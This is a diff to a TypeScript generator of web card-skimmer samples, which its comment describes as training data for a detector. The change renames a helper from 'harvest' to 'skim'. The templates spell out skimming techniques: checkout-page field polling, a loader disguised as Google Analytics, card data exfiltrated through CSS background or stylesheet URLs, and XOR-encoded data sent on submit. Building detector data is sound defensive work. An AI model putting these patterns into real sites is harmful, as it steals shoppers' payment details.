@@ -1,7 +1,7 @@
-// Behaviours of hostile scripts that are told by what they do and not by their words. Texts for a detector to be trained on: they are never
-// run, the hosts do not exist, and filler stands where harm would.
+// Hostile behaviors that are recognized by what they do, not by their words. Training data for a detector: never run, the
+// hosts do not exist, and filler replaces anything harmful.
 import { base64, hostile, percent } from './hostile-templates.ts'
-import { CARD_FIELDS, CARD_TEST, harvest, leave, onCheckout, skimmer } from './skimmer-templates.ts'
+import { CARD_FIELDS, CARD_TEST, skim, leave, onCheckout, skimmer } from './skimmer-templates.ts'
 import type { Family, Variation } from './variation.ts'
 
 const codes = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(',')
@@ -49,7 +49,7 @@ export const HOSTILE_BEHAVIOURS: readonly Family[] = [
   skimmer(
     'fields asked for again and again, once each',
     (v) =>
-      `var ${v.id(0)}='';setInterval(function(){${v.pick([`if(location.pathname.indexOf('${v.pick(['checkout', 'onepage', 'payment'])}')===-1)return;`, `if(!/${v.pick(['checkout', 'onestep', 'order'])}/.test(location.href))return;`])}${harvest(v, v.id(1))}if(${v.id(1)}!==${v.id(0)}&&${v.id(1)}.length>${v.number(10, 60)}){${v.id(0)}=${v.id(1)};${leave(v, v.id(1))}}},${v.number(3, 40) * 100});`,
+      `var ${v.id(0)}='';setInterval(function(){${v.pick([`if(location.pathname.indexOf('${v.pick(['checkout', 'onepage', 'payment'])}')===-1)return;`, `if(!/${v.pick(['checkout', 'onestep', 'order'])}/.test(location.href))return;`])}${skim(v, v.id(1))}if(${v.id(1)}!==${v.id(0)}&&${v.id(1)}.length>${v.number(10, 60)}){${v.id(0)}=${v.id(1)};${leave(v, v.id(1))}}},${v.number(3, 40) * 100});`,
   ),
   skimmer(
     'loader in the manner of a tag manager',
@@ -59,12 +59,12 @@ export const HOSTILE_BEHAVIOURS: readonly Family[] = [
   skimmer(
     'counter that reads fields, too',
     (v) =>
-      `window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','UA-${v.number(10_000, 99_999)}-1');${soon(v, onCheckout(v, `${harvest(v, v.id(1))}${leave(v, v.id(1))}`))}`,
+      `window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','UA-${v.number(10_000, 99_999)}-1');${soon(v, onCheckout(v, `${skim(v, v.id(1))}${leave(v, v.id(1))}`))}`,
   ),
   skimmer(
     'background of a style as a way out',
     (v) =>
-      `document.addEventListener('${v.pick(['change', 'focusout', 'submit'])}',function(e){${harvest(v, v.id(1))}if(${v.pick(CARD_TEST)}.test(${v.id(1)})){var s=document.createElement('${v.pick(['style', 'div', 'link'])}');${v.pick([`s.innerHTML='body::after{content:url('+${hide(v, `${v.address()}?`)}+btoa(${v.id(1)})+')}';document.head.appendChild(s)`, `s.rel='stylesheet';s.href=${hide(v, `${v.address()}?`)}+btoa(${v.id(1)});document.head.appendChild(s)`, `s.style.backgroundImage='url('+${hide(v, `${v.address()}?`)}+encodeURIComponent(${v.id(1)})+')';document.body.appendChild(s)`])}}},true);`,
+      `document.addEventListener('${v.pick(['change', 'focusout', 'submit'])}',function(e){${skim(v, v.id(1))}if(${v.pick(CARD_TEST)}.test(${v.id(1)})){var s=document.createElement('${v.pick(['style', 'div', 'link'])}');${v.pick([`s.innerHTML='body::after{content:url('+${hide(v, `${v.address()}?`)}+btoa(${v.id(1)})+')}';document.head.appendChild(s)`, `s.rel='stylesheet';s.href=${hide(v, `${v.address()}?`)}+btoa(${v.id(1)});document.head.appendChild(s)`, `s.style.backgroundImage='url('+${hide(v, `${v.address()}?`)}+encodeURIComponent(${v.id(1)})+')';document.body.appendChild(s)`])}}},true);`,
   ),
   skimmer('payment fields put in the place of others', (v) => {
     const names = v.pick(CARD_FIELDS)
@@ -83,7 +83,7 @@ export const HOSTILE_BEHAVIOURS: readonly Family[] = [
   skimmer(
     'fields mixed with a key',
     (v) =>
-      `var k='${v.key(8)}';function ${v.id(0)}(s){var r='';for(var i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return ${v.pick(['btoa(r)', 'escape(r)', "r.split('').map(function(c){return c.charCodeAt(0).toString(16)}).join('')"])}}document.addEventListener('${v.pick(['click', 'mousedown', 'submit'])}',function(){${harvest(v, v.id(1))}if(${v.id(1)}){var x=${v.id(0)}(${v.id(1)});${leave(v, 'x')}}},true);`,
+      `var k='${v.key(8)}';function ${v.id(0)}(s){var r='';for(var i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return ${v.pick(['btoa(r)', 'escape(r)', "r.split('').map(function(c){return c.charCodeAt(0).toString(16)}).join('')"])}}document.addEventListener('${v.pick(['click', 'mousedown', 'submit'])}',function(){${skim(v, v.id(1))}if(${v.id(1)}){var x=${v.id(0)}(${v.id(1)});${leave(v, 'x')}}},true);`,
   ),
   skimmer(
     'fields over a socket that stays open',
